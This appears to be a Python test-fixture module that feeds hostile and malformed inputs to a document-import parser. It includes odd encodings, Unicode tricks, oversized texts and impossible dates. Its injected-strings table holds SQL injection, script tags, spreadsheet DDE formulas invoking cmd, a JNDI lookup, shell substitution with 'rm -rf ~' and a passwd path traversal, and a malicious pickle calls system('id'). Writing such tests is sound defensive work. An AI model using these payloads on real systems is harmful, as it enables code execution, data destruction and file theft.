"""Plain texts: encodings, signs, lengths, and bytes that are no text at all."""

import bz2
import gzip
import lzma
import random

from tests.hostile.case import ANY, FAILED, GOOD, READ, SKIPPED, WORDS, Case, Cases

LEGACY = {
    "Обстрел города начался 3 мая 2017 года, сообщили в Красном Кресте. Погибли четыре человека, ранены ещё десять.\n": (
        "cp1251",
        "koi8-r",
        "iso8859-5",
        "cp866",
        "mac-cyrillic",
        "utf-16-le",
        "utf-16-be",
        "utf-32-le",
        "utf-16",
        "utf-32",
    ),
    "Обстріл міста почався 3 травня 2017 року, повідомили у Червоному Хресті. Загинули четверо людей, ще їх десять.\n": (
        "koi8-u",
    ),
    "بدأ قصف المدينة يوم 3 مايو 2017 وقال الصليب الأحمر إن أربعة أشخاص قتلوا وجرح عشرة آخرون في الحي الشرقي\n": (
        "cp1256",
        "iso8859-6",
        "utf-8-sig",
    ),
    "הפגזת העיר החלה ביום שלישי בחודש מאי, כך מסר הצלב האדום. ארבעה בני אדם נהרגו ועשרה נפצעו ברובע המזרחי\n": (
        "cp1255",
        "iso8859-8",
    ),
    "Ο βομβαρδισμός της πόλης άρχισε στις 3 Μαΐου 2017, ανακοίνωσε ο Ερυθρός Σταυρός. Σκοτώθηκαν τέσσερις.\n": (
        "cp1253",
        "iso8859-7",
    ),
    "Şehrin bombalanması 3 Mayıs 2017'de başladı, Kızılhaç açıkladı. Dört kişi öldü, on kişi yaralandı, ağır.\n": (
        "cp1254",
        "iso8859-9",
    ),
    "Ostrzał miasta rozpoczął się 3 maja 2017 roku, poinformował Czerwony Krzyż. Zginęły cztery osoby, święto.\n": (
        "cp1250",
        "iso8859-2",
        "cp852",
    ),
    "Le bombardement de la ville a débuté le 3 mai 2017, a déclaré la Croix-Rouge. Quatre tués, âgés, là-bas.\n": (
        "cp1252",
        "latin-1",
        "iso8859-15",
        "cp850",
        "mac-roman",
        "cp437",
    ),
    "对该市的炮击于二零一七年五月三日开始，红十字会说。四人死亡，十人受伤，谈判将于星期一在日内瓦举行。\n": (
        "gb18030",
        "gb2312",
        "hz",
    ),
    "對該市的炮擊於二零一七年五月三日開始，紅十字會說。四人死亡，十人受傷，談判將於星期一在日內瓦舉行。\n": ("big5",),
    "市への砲撃は二〇一七年五月三日に始まったと赤十字が発表した。四人が死亡し、十人が負傷した。\n": (
        "shift_jis",
        "euc-jp",
        "iso2022_jp",
    ),
    "도시에 대한 포격이 이천십칠년 오월 삼일에 시작되었다고 적십자가 밝혔다. 네 명이 숨지고 열 명이 다쳤다.\n": (
        "euc-kr",
        "iso2022_kr",
        "johab",
    ),
    "การยิงถล่มเมืองเริ่มขึ้นเมื่อวันที่ 3 พฤษภาคม สภากาชาดกล่าว มีผู้เสียชีวิตสี่คนและบาดเจ็บสิบคน\n": ("cp874",),
    "Miesto apšaudymas prasidėjo 2017 metų gegužės 3 dieną, pranešė Raudonasis Kryžius. Žuvo keturi žmonės.\n": (
        "cp1257",
    ),
}
NAMES_OF_MARKS = {"utf8": b"\xef\xbb\xbf", "le16": b"\xff\xfe", "be16": b"\xfe\xff", "le32": b"\xff\xfe\0\0"}
SIGNS = {
    "controls": "".join(map(chr, range(1, 32))) + GOOD * 40,
    "colours": "\x1b[31m" + GOOD + "\x1b[0m",
    "turned": "\u202e" + GOOD + "\u202c\u2066" + GOOD,
    "piled": "Zalgo" + "\u0301" * 50_000 + " " + GOOD,
    "joined": "👩" + "\u200d👩" * 5000 + GOOD,
    "private": "\ue000\uf8ff\U000f0000 " + GOOD,
    "no-characters": "\ufdd0\ufffe\uffff\U0001ffff " + GOOD,
    "tags": "\U000e0001\U000e0041 " + GOOD,
    "separators": GOOD.strip() + "\u2028" + GOOD.strip() + "\u2029\x0b\x0c\x85" + GOOD,
    "old-mac": GOOD.replace("\n", "\r") * 3,
    "mixed-ends": GOOD.strip() + "\r\n" + GOOD.strip() + "\r" + GOOD,
    "soft-hyphens": "\u00ad".join(GOOD),
    "zero-width": "\u200b".join(GOOD),
    "wide": "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in GOOD) + "\n" + GOOD,
    "variation": "".join(one + "\ufe0f" for one in GOOD),
}
LONG = {
    "one-word": "a" * 1_000_000,
    "blanks": " " * 1_000_000 + GOOD,
    "one-line": GOOD.strip() * 2000,
    "line-ends": "\n" * 1_000_000 + GOOD,
    "brackets": "(" * 100_000 + GOOD,
    "quotes": '"' * 50_001 + GOOD,
    "nested-quotes": "“‘" * 20_000 + GOOD,
    "days": "1/2/2003 " * 5000,
    "fridays": "Friday " * 20_000,
    "commas": "attacked, " * 20_000,
    "full-stops": "." * 200_000 + GOOD,
    "numbers": "9" * 200_000 + " " + GOOD,
    "ago": "9" * 400 + " days ago shells fell on the town. " + GOOD,
    "hyphens": "-" * 200_000 + GOOD,
    "capitals": "A. " * 60_000,
    "and": "and " * 60_000 + GOOD,
    "month-names": "May June July " * 4000,
    "colons": "12:34:" * 40_000,
}
DAYS = {
    "year-0": "On 3 May 0000 shells fell on the town.\n",
    "year-9999": "On 31 December 9999 shells will fall on the town.\n",
    "year-minus": "On -5-01-01 shells fell on the town; in 500 BC too.\n",
    "year-99999": "On 3 May 99999 shells fell on the town.\n",
    "no-day": "On 30 February 2017 and 31/31/2017 shells fell on the town at 25:61.\n",
    "huge-span": "Between 1 January 0001 and 31 December 9999 shells fell on the town.\n",
}
INJECTED = {
    "sql": "'); DROP TABLE articles; --",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://x.example","a")',
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-1+1",
    "formula-tab": "\t=1+1",
    "fts": '" OR NEAR(a b) AND title:* NOT ^',
    "template": "{{7*7}} ${jndi:ldap://x.example/a} %s%n%x",
    "shell": "$(touch x) `touch y` ; rm -rf ~ | cat",
    "json": '", "status": "imported"}\\n{"path": "',
    "ics": "\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
    "path": "../../../etc/passwd",
}
"""Words that mean something to other programs; each stands as the title of an article and in its sentences."""
OTHERS = {
    "picture.txt": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(99),
    "picture.pdf": b"\xff\xd8\xff\xe0" + bytes(99),
    "picture.html": b"GIF89a" + bytes(99),
    "program.txt": b"\x7fELF\x02\x01\x01" + bytes(200),
    "program.docx": b"MZ\x90\0" + bytes(200),
    "database.txt": b"SQLite format 3\0" + bytes(100),
    "packed.txt": gzip.compress(WORDS, mtime=0),
    "packed-2.txt": bz2.compress(WORDS),
    "packed-3.txt": lzma.compress(WORDS),
    "seven.txt": b"7z\xbc\xaf\x27\x1c" + bytes(50),
    "rar.zip": b"Rar!\x1a\x07\x01\0" + bytes(50),
    "sound.txt": b"OggS" + bytes(60),
    "film.txt": b"\0\0\0\x20ftypisom" + bytes(60),
    "class.txt": b"\xca\xfe\xba\xbe" + bytes(range(256)),
    "pickle.txt": b"\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
    "plist.plist": b"bplist00" + bytes(range(256)),
    "laughs.plist": b"<?xml version='1.0'?><plist/>",
    "noise.xyz": b"words",
    "zeros.txt": bytes(100_000),
    "one-zero.txt": b"\0",
    "marks.txt": b"*** --- ***\n",
    "emoji.txt": "🙂🙂🙂\n".encode(),
    "noise.txt": random.Random(5).randbytes(20_000),
    "noise.pdf": random.Random(6).randbytes(20_000),
    "noise.docx": random.Random(7).randbytes(20_000),
    "noise.eml": random.Random(8).randbytes(20_000),
    "noise.rtf": random.Random(9).randbytes(20_000),
    "noise.doc": random.Random(10).randbytes(20_000),
    "noise.csv": random.Random(11).randbytes(20_000),
    "noise.zip": random.Random(12).randbytes(20_000),
}


def cases() -> Cases:
    """All of them."""
    for ending in (
        "txt",
        "md",
        "html",
        "pdf",
        "docx",
        "odt",
        "rtf",
        "epub",
        "eml",
        "mbox",
        "mhtml",
        "zip",
        "jsonl",
        "csv",
        "xlsx",
        "doc",
        "msg",
    ):
        yield Case(f"empty.{ending}", b"", FAILED, "is empty")
        yield Case(f"blank.{ending}", b" \n\t\r\n", FAILED, "is empty")
        if ending not in ("txt", "md", "html"):
            yield Case(f"one-byte.{ending}", b"x", READ if ending == "doc" else FAILED)
    yield Case("one-byte.txt", b"x")
    yield Case("one-byte.md", b"x")
    yield Case("one-byte.html", b"x")
    for text, encodings in LEGACY.items():
        for encoding in encodings:
            yield Case(f"legacy-{encoding}.txt", text.encode(encoding))
    for name, mark in NAMES_OF_MARKS.items():
        yield Case(f"mark-{name}-alone.txt", mark, FAILED)
        yield Case(f"mark-{name}-false.txt", mark + WORDS, ANY)
    yield Case("marks-mixed.txt", b"\xef\xbb\xbf\xff\xfe" + GOOD.encode("utf-16-le"), ANY)
    yield Case("marks-twice.txt", b"\xef\xbb\xbf" * 3 + WORDS)
    yield Case("utf16-odd.txt", GOOD.encode("utf-16")[:-1])
    yield Case("utf16-halves.txt", b"\xff\xfe" + GOOD.encode("utf-16-le") + b"\x3d\xd8")
    yield Case("utf7.txt", GOOD.encode("utf-7"))
    yield Case("overlong.txt", b"\xc0\xaf\xe0\x80\xaf" + WORDS)
    yield Case("halves.txt", "\ud83d\ude00 \udc00".encode("utf-8", "surrogatepass") + WORDS)
    yield Case("beyond.txt", b"\xf8\x88\x80\x80\x80\xfd\xbf " + WORDS)
    yield Case("stray-zeros.txt", WORDS * 20 + b"\0" + WORDS)
    yield Case("zeros-between.txt", b"\0".join(WORDS[at : at + 1] for at in range(len(WORDS))))
    for group in (SIGNS, LONG, DAYS):
        for name, text in group.items():
            yield Case(f"{name}.txt", text.encode("utf-8"))
    for name, text in INJECTED.items():
        yield Case(f"injected-{name}.txt", f"{text}\n\n{GOOD.strip()} {text}\n".encode())
        yield Case(f"injected-{name}.md", f"---\ntitle: {text.strip()!r}\n---\n{GOOD}".encode())
    for name, data in OTHERS.items():
        yield Case(f"other-{name}", data, SKIPPED if name.endswith((".plist", ".xyz")) else FAILED)
    yield Case("huge-line.txt", lambda: b"words and dates " * 3_200_000, large=True)
    yield Case("huge.txt", lambda: WORDS * (200_000_000 // len(WORDS)), FAILED, "is larger than", large=True)
    yield Case("long.txt", lambda: WORDS * (10_000_000 // len(WORDS)), words="very long", large=True)
